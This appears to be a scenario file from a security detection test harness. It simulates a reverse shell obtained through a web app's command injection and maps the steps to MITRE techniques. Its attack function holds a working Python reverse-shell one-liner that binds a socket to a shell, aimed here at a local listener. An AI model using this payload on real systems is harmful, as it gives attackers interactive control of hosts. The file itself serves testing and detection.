# A reverse shell through the app's command injection (see app-command-injection): the injected command is a
# Python one-liner that connects to a listener on the host, makes the connection its standard input, output and
# error, and runs an interactive shell there, which the listener uses (id, uname, exit). The app's own
# interpreter is Python too: the shell's grandparent is the workload's usual program (T1190, T1059.006).
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
host_setup() { shell_listener; }
attack() {
  local code="import socket,os,subprocess;s=socket.create_connection(('127.0.0.1',$LISTEN_PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
  app_inject "$WEB_PORT" "python3 -c \"$code\""
}
host_cleanup() { listener_stop; }
